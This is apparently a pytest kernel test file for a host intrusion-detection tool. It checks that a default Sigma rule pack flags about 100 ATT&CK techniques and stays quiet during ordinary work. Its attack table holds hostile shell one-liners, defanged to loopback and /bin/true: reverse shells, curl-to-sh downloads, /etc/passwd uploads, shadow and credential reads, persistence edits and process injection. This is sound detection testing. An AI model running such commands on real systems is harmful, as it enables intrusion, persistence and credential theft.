# ruff: noqa: E501 - the attack table holds shell one-liners, which read best unbroken
"""The default content pack against real attacks: one `ringfence run` with the defaults (Sigma engine and
the pack, the audit baseline, the file sensor on the root filesystem), every technique the pack claims
performed for real on this host, harmlessly and undone, and its finding (with the technique id) read
from findings.jsonl. Then ordinary work (compiling, git, pip, a package reinstall, log rotation, a
backup) with the same agent: no finding of medium severity or above.

Exec marks stay on a tmpfs of the module's own; only the notification-only file sensor and the audit
baseline see the whole system, as they do in production. Every change an attack makes outside the
module's directory (a cron file, a unit, an account, a line in a sudoers.d file) is made on a name of
this run's own and removed in the same step; files that already exist are put back byte for byte.
"""

from __future__ import annotations

import contextlib
import json
import os
import shutil
import signal
import socket
import subprocess
import sys
import tempfile
import threading
import time
import uuid
from collections.abc import Iterator
from dataclasses import dataclass
from pathlib import Path

import pytest
import yaml

from ringfence.content._default import default_pack
from ringfence.sensors.audit import list_rule_keys
from tests.agent.helpers import end_agent
from tests.kernel import mounted_tmpfs

pytestmark = pytest.mark.kernel

RINGFENCE = [sys.executable, "-m", "ringfence.cli"]
READY_S = 90.0
FINDING_S = 20.0


@dataclass(frozen=True)
class Agent:
    proc: subprocess.Popen[str]
    state: Path
    work: Path  # the module's own directory: $W in the attacks
    key: str

    @property
    def findings(self) -> Path:
        return self.state / "findings.jsonl"

    def offset(self) -> int:
        return self.findings.stat().st_size if self.findings.exists() else 0

    def findings_since(self, offset: int) -> list[dict[str, object]]:
        if not self.findings.exists():
            return []
        with self.findings.open("rb") as f:
            f.seek(offset)
            data = f.read()
        complete = data[: data.rfind(b"\n") + 1]
        return [json.loads(line) for line in complete.splitlines() if line.strip()]

    def losses(self) -> object:
        """What status says was dropped (a missed finding is then an event lost on the way, not a rule
        that did not match): for the message of a failed assertion."""
        r = subprocess.run(
            [*RINGFENCE, "status", "--json", "--state-dir", str(self.state)], capture_output=True, timeout=30
        )
        return json.loads(r.stdout).get("drops") if r.stdout else r.stderr


def techniques_of(finding: dict[str, object]) -> set[str]:
    info = finding.get("finding_info")
    assert isinstance(info, dict)
    out = set()
    for attack in info.get("attacks", []):
        for part in ("technique", "sub_technique"):
            if part in attack:
                out.add(attack[part]["uid"])
    return out


def severity_of(finding: dict[str, object]) -> int:
    value = finding["severity_id"]
    assert isinstance(value, int)
    return value


@pytest.fixture(scope="module")
def agent() -> Iterator[Agent]:
    base = Path(tempfile.mkdtemp(prefix="rf-pack-", dir="/tmp"))
    base.chmod(0o755)
    key = f"rf-pack-{uuid.uuid4().hex[:8]}"
    work = base / "work"
    work.mkdir()
    with mounted_tmpfs(base / "mnt") as mnt:
        config = base / "rf.toml"
        config.write_text(
            f'[agent]\nstate_dir = "{base / "state"}"\n'
            f'[sensors]\nexec_mounts = ["{mnt}"]\naudit_key = "{key}"\n'
            "[output]\nconsole_interval_s = 0\n"
        )  # everything else as shipped: the Sigma engine with the default pack, the audit baseline
        proc = subprocess.Popen(
            [*RINGFENCE, "run", "--config", str(config)],
            stdout=subprocess.PIPE,
            stderr=subprocess.STDOUT,
            text=True,
        )
        lines: list[str] = []
        ready = threading.Event()

        def read() -> None:
            assert proc.stdout is not None
            for line in proc.stdout:
                lines.append(line)
                if " running on " in line:
                    ready.set()

        reader = threading.Thread(target=read, daemon=True)
        reader.start()
        try:
            assert ready.wait(READY_S), "agent not ready:\n" + "".join(lines)
            assert any("Sigma rules in force" in line for line in lines), "".join(lines)
            yield Agent(proc, base / "state", work, key)
        finally:
            end_agent(proc, signal.SIGTERM)
            reader.join(timeout=10)
    shutil.rmtree(base, ignore_errors=True)
    assert proc.returncode == 0, "".join(lines)
    assert not any(k == key or k.startswith(f"{key}:") for k in list_rule_keys())


@contextlib.contextmanager
def listener(host: str = "127.0.0.1", port: int = 0) -> Iterator[int]:
    """A TCP listener that accepts and closes, so that connects succeed and nothing hangs."""
    srv = socket.socket(socket.AF_INET6 if ":" in host else socket.AF_INET)
    srv.setsockopt(socket.SOL_SOCKET, socket.SO_REUSEADDR, 1)
    srv.bind((host, port))
    srv.listen(16)
    srv.settimeout(0.2)
    stop = threading.Event()

    def serve() -> None:
        while not stop.is_set():
            try:
                conn, _ = srv.accept()
            except OSError:
                continue
            conn.close()

    t = threading.Thread(target=serve, daemon=True)
    t.start()
    try:
        yield srv.getsockname()[1]
    finally:
        stop.set()
        t.join(timeout=5)
        srv.close()


def host_address() -> str:
    """An address of this host that is not loopback (a UDP connect sends nothing)."""
    with socket.socket(socket.AF_INET, socket.SOCK_DGRAM) as s:
        s.connect(("192.0.2.1", 9))
        return str(s.getsockname()[0])


@dataclass(frozen=True)
class Attack:
    name: str
    techniques: tuple[str, ...]  # each must appear in a finding that the attack raises
    script: str  # sh; $W: the module's work dir, $ID: unique to this attack, $PORT: a listener's port


# Helpers the scripts share: put back a file as it was (or remove it if it was not there).
PRELUDE = r"""
keep() { if [ -e "$1" ]; then cp -a "$1" "$W/keep.$ID.$(basename "$1")"; fi; }
restore() { if [ -e "$W/keep.$ID.$(basename "$1")" ]; then cp -a "$W/keep.$ID.$(basename "$1")" "$1"; else rm -f "$1"; fi; }
"""

ATTACKS = [
    # execution
    Attack("bash reverse shell", ("T1059.004",), "bash -c 'exec 3<>/dev/tcp/127.0.0.1/$PORT; exec 3>&-'"),
    Attack(
        "socat reverse shell",
        ("T1059.004", "T1095"),
        "timeout 5 socat tcp:127.0.0.1:$PORT exec:/bin/true || true",
    ),
    Attack(
        "netcat fifo shell",
        ("T1059.004",),
        "timeout 5 sh -c 'mkfifo $W/f.$ID; cat $W/f.$ID | /bin/sh -i 2>&1 | nc -w 1 127.0.0.1 $PORT > $W/f.$ID' "
        "> /dev/null 2>&1 || true; rm -f $W/f.$ID",
    ),
    Attack(
        "python reverse shell",
        ("T1059.006",),
        "python3 -c 'import socket,subprocess,os;s=socket.socket();s.connect((\"127.0.0.1\",'$PORT'));s.close()'",
    ),
    Attack(
        "shell connects out", ("T1059.004", "T1095"), "bash -c 'exec 3<>/dev/tcp/$HOSTIP/$PORT; exec 3>&-'"
    ),
    Attack(
        "download piped to a shell",
        ("T1105", "T1059.004"),
        "sh -c 'curl -s -m 2 http://127.0.0.1:$PORT/install.sh | sh' || true",
    ),
    Attack(
        "download, chmod, run",
        ("T1105",),
        "sh -c 'curl -s -m 2 -o $W/dl.$ID http://127.0.0.1:$PORT/x; chmod +x $W/dl.$ID; $W/dl.$ID' || true; rm -f $W/dl.$ID",
    ),
    Attack("decoded payload run", ("T1140", "T1027"), "sh -c 'echo dHJ1ZQo= | base64 -d | sh'"),
    Attack(
        "exec from /dev/shm",
        ("T1059",),
        "cp /bin/true /dev/shm/rf-$ID && /dev/shm/rf-$ID; rm -f /dev/shm/rf-$ID",
    ),
    Attack(
        "exec from a memfd",
        ("T1620",),
        'python3 -c \'import os,subprocess;fd=os.memfd_create("rf");os.write(fd,open("/bin/true","rb").read());'
        'subprocess.run(["/proc/self/fd/%d" % fd], pass_fds=(fd,), check=True)\'',
    ),
    # persistence
    Attack(
        "cron file",
        ("T1053.003",),
        "echo '* * * * * root /bin/true' > /etc/cron.d/rf-$ID; rm -f /etc/cron.d/rf-$ID",
    ),
    Attack(
        "crontab install",
        ("T1053.003",),
        "crontab -l > $W/ct.$ID 2>/dev/null; had=$?; echo '@reboot /bin/true' | crontab -; "
        "if [ $had -eq 0 ]; then crontab $W/ct.$ID; else crontab -r; fi",
    ),
    Attack(
        "at job",
        ("T1053.002",),
        'j=$(echo /bin/true | at now + 1 year 2>&1 | awk \'/^job/ {print $2}\'); [ -z "$j" ] || atrm "$j"',
    ),
    Attack(
        "systemd service",
        ("T1543.002",),
        "printf '[Service]\\nExecStart=/bin/true\\n' > /etc/systemd/system/rf-$ID.service; rm -f /etc/systemd/system/rf-$ID.service",
    ),
    Attack(
        "systemd timer",
        ("T1053.006",),
        "printf '[Timer]\\nOnCalendar=daily\\n' > /etc/systemd/system/rf-$ID.timer; rm -f /etc/systemd/system/rf-$ID.timer",
    ),
    Attack("systemd-run timer", ("T1053.006",), "systemd-run --on-active=1h /bin/true 2>/dev/null || true"),
    Attack(
        "profile.d script",
        ("T1546.004",),
        "echo '# rf test' > /etc/profile.d/rf-$ID.sh; rm -f /etc/profile.d/rf-$ID.sh",
    ),
    Attack(
        "bashrc line",
        ("T1546.004",),
        "keep /root/.bashrc; echo '# rf test' >> /root/.bashrc; restore /root/.bashrc",
    ),
    Attack(
        "authorized_keys",
        ("T1098.004",),
        "mkdir -p /root/.ssh; keep /root/.ssh/authorized_keys; echo 'ssh-ed25519 AAAAC3Nza rf-test' >> /root/.ssh/authorized_keys; restore /root/.ssh/authorized_keys",
    ),
    Attack(
        "ssh rc",
        ("T1546",),
        "mkdir -p /root/.ssh; keep /root/.ssh/rc; echo '# rf' > /root/.ssh/rc; restore /root/.ssh/rc",
    ),
    Attack(
        "sshd config",
        ("T1098.004", "T1556"),
        "mkdir -p /etc/ssh/sshd_config.d; echo '# rf' > /etc/ssh/sshd_config.d/rf-$ID.conf; rm -f /etc/ssh/sshd_config.d/rf-$ID.conf",
    ),
    Attack(
        "ld.so.preload",
        ("T1574.006",),
        "keep /etc/ld.so.preload; cat /etc/ld.so.preload > $W/p.$ID 2>/dev/null; cat $W/p.$ID > /etc/ld.so.preload; restore /etc/ld.so.preload",
    ),
    Attack(
        "ld.so.conf.d",
        ("T1574.006",),
        "mkdir -p /etc/ld.so.conf.d; echo '# rf' > /etc/ld.so.conf.d/rf-$ID.conf; rm -f /etc/ld.so.conf.d/rf-$ID.conf",
    ),
    Attack("LD_PRELOAD", ("T1574.006",), "sh -c 'LD_PRELOAD= /bin/true'"),
    Attack(
        "rc.local",
        ("T1037.004",),
        "keep /etc/rc.local; cat /etc/rc.local > $W/r.$ID 2>/dev/null; cat $W/r.$ID > /etc/rc.local; restore /etc/rc.local",
    ),
    Attack(
        "motd script",
        ("T1037",),
        "mkdir -p /etc/update-motd.d; echo '# rf' > /etc/update-motd.d/99-rf-$ID; rm -f /etc/update-motd.d/99-rf-$ID",
    ),
    Attack(
        "udev rule",
        ("T1546.017",),
        "mkdir -p /etc/udev/rules.d; echo '# rf' > /etc/udev/rules.d/99-rf-$ID.rules; rm -f /etc/udev/rules.d/99-rf-$ID.rules",
    ),
    Attack(
        "xdg autostart",
        ("T1547.013",),
        "mkdir -p /etc/xdg/autostart; echo '# rf' > /etc/xdg/autostart/rf-$ID.desktop; rm -f /etc/xdg/autostart/rf-$ID.desktop",
    ),
    Attack("new account", ("T1136.001",), "useradd -M rf$ID && userdel rf$ID"),
    Attack(
        "uid 0 account", ("T1136.001", "T1098"), "usermod -o -u 0 rf-no-such-user-$ID 2>/dev/null || true"
    ),
    Attack("passwd rewritten", ("T1136.001", "T1098"), "sed -i -e '$ s/$//' /etc/passwd"),
    Attack(
        "renamed useradd",
        ("T1136.001",),
        "cp /usr/sbin/useradd $W/mkacct.$ID && $W/mkacct.$ID -M rg$ID && userdel rg$ID; rm -f $W/mkacct.$ID",
    ),
    Attack("privileged group", ("T1098",), "useradd -M rp$ID && usermod -aG sudo rp$ID; userdel rp$ID"),
    Attack(
        "password guessing",
        ("T1110.001",),
        "for i in 1 2 3 4 5 6; do runuser -u nobody -- sh -c 'echo wrong | sudo -S -k -p \"\" /bin/true' 2>/dev/null; done; true",
    ),
    Attack("pam file", ("T1556.003",), "echo '# rf' > /etc/pam.d/rf-$ID; rm -f /etc/pam.d/rf-$ID"),
    Attack("kernel module", ("T1547.006",), "modprobe rf_no_such_module_$ID 2>/dev/null || true"),
    # privilege escalation
    Attack("setuid bit", ("T1548.001",), "cp /bin/true $W/s.$ID && chmod u+s $W/s.$ID; rm -f $W/s.$ID"),
    Attack("setcap", ("T1548",), "cp /bin/true $W/c.$ID && setcap cap_net_raw+ep $W/c.$ID; rm -f $W/c.$ID"),
    Attack(
        "sudoers.d",
        ("T1548.003",),
        "mkdir -p /etc/sudoers.d; echo '# Defaults timestamp_timeout=-1' > /etc/sudoers.d/rf-$ID; rm -f /etc/sudoers.d/rf-$ID",
    ),
    Attack("sudo uid bypass", ("T1548.003", "T1068"), "sudo -n -u#-1 /bin/true 2>/dev/null || true"),
    Attack("nsenter into pid 1", ("T1611",), "nsenter -t 1 -m -- /bin/true 2>/dev/null || true"),
    # defense evasion
    Attack("history cleared", ("T1070.003",), "bash -c 'history -c; unset HISTFILE'"),
    Attack(
        "history deleted",
        ("T1070.003",),
        "mkdir -p $W/h.$ID && echo x > $W/h.$ID/.bash_history && rm -f $W/h.$ID/.bash_history; rmdir $W/h.$ID",
    ),
    Attack("timestomp", ("T1070.006",), "touch $W/t.$ID && touch -t 201001010000 $W/t.$ID; rm -f $W/t.$ID"),
    Attack("log deleted", ("T1070.002",), "echo x > /var/log/rf-$ID.log; rm -f /var/log/rf-$ID.log"),
    Attack(
        "hidden file in /tmp",
        ("T1564.001",),
        "mkdir /tmp/.rf-$ID && cp /bin/true /tmp/.rf-$ID/x && /tmp/.rf-$ID/x; rm -rf /tmp/.rf-$ID",
    ),
    Attack("audit stopped", ("T1562.012",), "systemctl stop rf-no-such-auditd.service 2>/dev/null || true"),
    Attack(
        "firewall stopped", ("T1562.004",), "systemctl stop rf-no-such-firewalld.service 2>/dev/null || true"
    ),
    Attack("security tool killed", ("T1562.001",), "pkill -9 -x falco-rf-$ID || true"),
    Attack("kernel thread name", ("T1036.004",), "bash -c 'exec -a \"[kworker/0:1-rf]\" /bin/true'"),
    Attack(
        "system name in /tmp",
        ("T1036.005",),
        "mkdir -p $W/m.$ID && cp /bin/true $W/m.$ID/sshd && $W/m.$ID/sshd; rm -rf $W/m.$ID",
    ),
    Attack("trailing space", ("T1036.006",), 'cp /bin/true "$W/ls " && "$W/ls "; rm -f "$W/ls "'),
    Attack(
        "immutable bit",
        ("T1222.002",),
        "touch $W/i.$ID && chattr +i $W/i.$ID; chattr -i $W/i.$ID; rm -f $W/i.$ID",
    ),
    Attack(
        "ptrace attach",
        ("T1055.008",),
        'python3 -c \'import ctypes,subprocess,os,time;l=ctypes.CDLL(None,use_errno=True);p=subprocess.Popen(["sleep","30"]);'
        "time.sleep(0.2);l.ptrace(16,p.pid,0,0);os.waitpid(p.pid,0);l.ptrace(17,p.pid,0,0);p.kill();p.wait()'",
    ),
    Attack(
        "process_vm_writev",
        ("T1055",),
        "python3 -c 'import ctypes,subprocess,sys;"
        'c=subprocess.Popen([sys.executable,"-c","import ctypes,sys;b=ctypes.create_string_buffer(8);print(ctypes.addressof(b),flush=True);sys.stdin.read()"],stdin=subprocess.PIPE,stdout=subprocess.PIPE);'
        'a=int(c.stdout.readline());l=ctypes.CDLL(None,use_errno=True);s=ctypes.create_string_buffer(b"rf");'
        'V=type("V",(ctypes.Structure,),{"_fields_":[("b",ctypes.c_void_p),("n",ctypes.c_size_t)]});'
        "lo=V(ctypes.addressof(s),2);re=V(a,2);l.process_vm_writev(c.pid,ctypes.byref(lo),1,ctypes.byref(re),1,0);c.stdin.close();c.wait()'",
    ),
    Attack(
        "/proc/PID/mem written",
        ("T1055.009",),
        "sleep 30 & p=$!; dd if=/dev/null of=/proc/$p/mem bs=1 count=0 conv=notrunc 2>/dev/null; kill $p",
    ),
    # credential access
    Attack("shadow read", ("T1003.008",), "cat /etc/shadow > /dev/null"),
    Attack("shadow read by python", ("T1003.008",), "python3 -c 'open(\"/etc/shadow\").read()'"),
    Attack("unshadow", ("T1003.008",), "sh -c 'unshadow /etc/passwd /etc/shadow > /dev/null 2>&1' || true"),
    Attack("private keys", ("T1552.004",), "find /root /home -maxdepth 3 -name 'id_rsa*' > /dev/null 2>&1"),
    Attack("cloud credentials", ("T1552.001",), "cat /root/.aws/credentials > /dev/null 2>&1 || true"),
    Attack("grep for passwords", ("T1552.001",), "grep -ri password /etc/ssh > /dev/null 2>&1 || true"),
    Attack("history read", ("T1552.003",), "cat /root/.bash_history > /dev/null 2>&1 || true"),
    Attack(
        "browser logins",
        ("T1555.003",),
        "cat /root/.mozilla/firefox/x.default/logins.json > /dev/null 2>&1 || true",
    ),
    Attack("proc maps", ("T1003.007",), "sh -c 'grep rw-p /proc/$$/maps > /dev/null'"),
    Attack(
        "gcore",
        ("T1003.007",),
        "sleep 30 & p=$!; gcore -o $W/core.$ID $p > /dev/null 2>&1; kill $p; rm -f $W/core.$ID*",
    ),
    Attack("sniffing", ("T1040",), "timeout 2 tcpdump -i lo -c 1 -w /dev/null > /dev/null 2>&1 || true"),
    Attack(
        "cloud metadata",
        ("T1552.005",),
        "curl -s -m 1 --connect-timeout 1 http://169.254.169.254/latest/meta-data/ > /dev/null || true",
    ),
    # discovery
    Attack("system info", ("T1082",), "uname -a > /dev/null"),
    Attack("virtualization", ("T1497.001",), "systemd-detect-virt > /dev/null 2>&1 || true"),
    Attack("accounts", ("T1087.001",), "cat /etc/passwd > /dev/null"),
    Attack("owner", ("T1033",), "whoami > /dev/null"),
    Attack("groups", ("T1069.001",), "groups > /dev/null"),
    Attack("processes", ("T1057",), "ps aux > /dev/null"),
    Attack("network config", ("T1016",), "ip addr > /dev/null"),
    Attack("connections", ("T1049",), "ss -tan > /dev/null"),
    Attack("services", ("T1007",), "systemctl list-units --type=service > /dev/null 2>&1 || true"),
    Attack("software", ("T1518",), "dpkg -l > /dev/null"),
    Attack("security software", ("T1518.001",), "sh -c 'ps aux | grep -i falcon > /dev/null' || true"),
    Attack("password policy", ("T1201",), "cat /etc/login.defs > /dev/null"),
    Attack("suid search", ("T1083", "T1548.001"), "find /usr/bin -perm -4000 > /dev/null"),
    Attack("remote systems", ("T1018",), "cat /etc/hosts > /dev/null"),
    Attack("time", ("T1124",), "timedatectl > /dev/null 2>&1 || true"),
    Attack("locale", ("T1614.001",), "locale > /dev/null"),
    Attack("port scan", ("T1046",), "nc -z -w 1 127.0.0.1 1-5 > /dev/null 2>&1 || true"),
    Attack(
        "discovery burst",
        ("T1082", "T1087", "T1016", "T1057"),
        "sh -c 'uname -a; id; whoami; ps aux; ip addr; ss -tan; cat /etc/passwd; cat /etc/hosts' > /dev/null",
    ),
    Attack("files listed", ("T1083",), "ls -R / > /dev/null 2>&1 || true"),
    Attack("sudo rights listed", ("T1548.003",), "sudo -n -l > /dev/null 2>&1 || true"),
    Attack(
        "script run from /tmp",
        ("T1059.004",),
        "echo true > /tmp/rf-$ID.sh && sh /tmp/rf-$ID.sh; rm -f /tmp/rf-$ID.sh",
    ),
    Attack(
        "service scripts stop auditd",
        ("T1562.012",),
        "service rf-no-such-auditd stop > /dev/null 2>&1 || true",
    ),
    Attack("ufw disabled", ("T1562.004",), "sh -c 'ufw disable' > /dev/null 2>&1 || true"),
    # collection, exfiltration, command and control
    Attack(
        "archive of keys",
        ("T1560.001", "T1005"),
        "mkdir -p $W/a.$ID/.ssh && echo k > $W/a.$ID/.ssh/id_rsa && tar czf $W/a.$ID.tgz -C $W/a.$ID .ssh; rm -rf $W/a.$ID $W/a.$ID.tgz",
    ),
    Attack(
        "encrypted archive",
        ("T1560.001",),
        "echo x > $W/e.$ID && zip -q -P secret $W/e.$ID.zip $W/e.$ID; rm -f $W/e.$ID $W/e.$ID.zip",
    ),
    Attack(
        "curl upload",
        ("T1048.003", "T1567"),
        "curl -s -m 2 -F f=@/etc/hostname http://127.0.0.1:$PORT/ > /dev/null || true",
    ),
    Attack(
        "passwd sent out",
        ("T1048.003", "T1041"),
        "curl -s -m 2 -F f=@/etc/passwd http://127.0.0.1:$PORT/u > /dev/null || true",
    ),
    Attack("netcat exfil", ("T1048.003", "T1095"), "sh -c 'nc -w 1 127.0.0.1 $PORT < /etc/hostname' || true"),
    Attack(
        "tool to /tmp",
        ("T1105",),
        "curl -s -m 2 -o /tmp/rf-$ID http://127.0.0.1:$PORT/tool || true; rm -f /tmp/rf-$ID",
    ),
    Attack(
        "ssh reverse tunnel",
        ("T1572", "T1090"),
        "timeout 5 ssh -o BatchMode=yes -o ConnectTimeout=1 -o StrictHostKeyChecking=no -R 9$PORT:127.0.0.1:22 rf@127.0.0.1 -p $PORT true > /dev/null 2>&1 || true",
    ),
    Attack(
        "ssh without host key checks",
        ("T1021.004",),
        "timeout 5 ssh -o BatchMode=yes -o ConnectTimeout=1 -o StrictHostKeyChecking=no rf@127.0.0.1 -p $PORT true > /dev/null 2>&1 || true",
    ),
    Attack(
        "tor port",
        ("T1090.003",),
        "python3 -c 'import socket;s=socket.create_connection((\"127.0.0.1\",9050),1);s.close()'",
    ),
    Attack(
        "http server",
        ("T1048.003",),
        "timeout 2 python3 -m http.server --bind 127.0.0.1 0 > /dev/null 2>&1 || true",
    ),
    # impact
    Attack("miner", ("T1496",), "/bin/true --donate-level 1 -o stratum+tcp://127.0.0.1:3333"),
    Attack(
        "file overwritten",
        ("T1485",),
        "echo x > $W/o.$ID && dd if=/dev/zero of=$W/o.$ID bs=1 count=1 conv=notrunc 2>/dev/null; rm -f $W/o.$ID",
    ),
    Attack("shutdown cancelled", ("T1529",), "shutdown -c > /dev/null 2>&1 || true"),
    Attack("rm --no-preserve-root", ("T1485",), "mkdir -p $W/d.$ID && rm -rf --no-preserve-root $W/d.$ID"),
]


def wait_for_marker(agent: Agent, start: int, marker: str) -> list[dict[str, object]]:
    """The findings since `start` up to the one naming `marker` (a reverse-shell command line run
    last): the engine handles events in order, so what ordinary work raised is in by then."""
    subprocess.run(["bash", "-c", f": /dev/tcp/{marker}"], check=True)
    deadline = time.monotonic() + FINDING_S
    while time.monotonic() < deadline:
        found = agent.findings_since(start)
        for n, f in enumerate(found):
            if marker in json.dumps(f):
                return found[:n]
        time.sleep(0.2)
    raise AssertionError(f"the marker finding did not come within {FINDING_S} s")


def test_ordinary_work_raises_nothing_of_medium_or_above(agent: Agent) -> None:
    start = agent.offset()
    work = agent.work / "ordinary"
    work.mkdir()
    script = r"""
set -e
cd "$WORK"
printf '#include <stdio.h>\nint main(void){puts("hi");return 0;}\n' > a.c
cc -O2 -o a a.c && ./a > /dev/null
printf 'all: b\nb: a.c\n\tcc -o b a.c\n' > Makefile && make -s
git init -q repo && cd repo && git config user.email t@example.org && git config user.name t
echo x > f && git add f && git commit -qm init && cd .. && git clone -q repo clone
python3 -m venv venv && ./venv/bin/pip install -q --disable-pip-version-check six
DEBIAN_FRONTEND=noninteractive apt-get install -y -qq --reinstall logrotate > /dev/null
mkdir -p /var/log/rf-ordinary-$ID && echo line > /var/log/rf-ordinary-$ID/app.log
printf '/var/log/rf-ordinary-%s/*.log {\n  rotate 1\n  compress\n  missingok\n}\n' "$ID" > lr.conf
logrotate -f -s lr.state lr.conf; echo more >> /var/log/rf-ordinary-$ID/app.log; logrotate -f -s lr.state lr.conf
tar czf backup.tgz /etc 2> /dev/null
cp -a /etc/ssh etc-ssh
ls -la /tmp > /dev/null; df -h > /dev/null; free -m > /dev/null
"""
    run_id = uuid.uuid4().hex[:8]
    env = {**os.environ, "WORK": str(work), "ID": run_id}
    try:
        done = subprocess.run(["bash", "-c", script], env=env, capture_output=True, text=True, timeout=600)
    finally:
        shutil.rmtree(f"/var/log/rf-ordinary-{run_id}", ignore_errors=True)
        shutil.rmtree(work, ignore_errors=True)
    assert done.returncode == 0, done.stderr
    loud = [f for f in wait_for_marker(agent, start, f"rf-marker-{run_id}") if severity_of(f) >= 3]
    assert loud == [], json.dumps(loud, indent=1)[:4000]


def test_every_technique_the_pack_claims_has_an_attack_below() -> None:
    claimed = set()
    for path in default_pack()["sigma"]:
        doc = yaml.safe_load(Path(path).read_text())
        claimed |= {t[len("attack.") :].upper() for t in doc.get("tags", []) if t.startswith("attack.t")}
    performed = {t for a in ATTACKS for t in a.techniques}
    assert claimed - performed == set()
    assert performed - claimed == set()  # no attack asserts a technique the pack does not claim


@pytest.fixture(scope="module")
def ports() -> Iterator[tuple[int, str]]:
    with listener("0.0.0.0") as port, listener("127.0.0.1", 9050) as _tor:
        yield port, host_address()


@pytest.mark.parametrize("attack", ATTACKS, ids=[a.name for a in ATTACKS])
def test_attack_raises_its_technique(agent: Agent, ports: tuple[int, str], attack: Attack) -> None:
    port, host_ip = ports
    attack_id = uuid.uuid4().hex[:8]
    start = agent.offset()
    env = {**os.environ, "W": str(agent.work), "ID": attack_id, "PORT": str(port), "HOSTIP": host_ip}
    done = subprocess.run(
        ["bash", "-c", PRELUDE + attack.script], env=env, cwd=agent.work, capture_output=True, text=True,
        timeout=60,
    )  # fmt: skip
    assert done.returncode == 0, done.stderr
    wanted = set(attack.techniques)
    deadline = time.monotonic() + FINDING_S
    seen: set[str] = set()
    while time.monotonic() < deadline:
        seen = set().union(*(techniques_of(f) for f in agent.findings_since(start)))
        if wanted <= seen:
            break
        time.sleep(0.2)
    assert wanted <= seen, f"{attack.name}: wanted {sorted(wanted)}, found {sorted(seen)}; {agent.losses()}"
    assert agent.proc.poll() is None
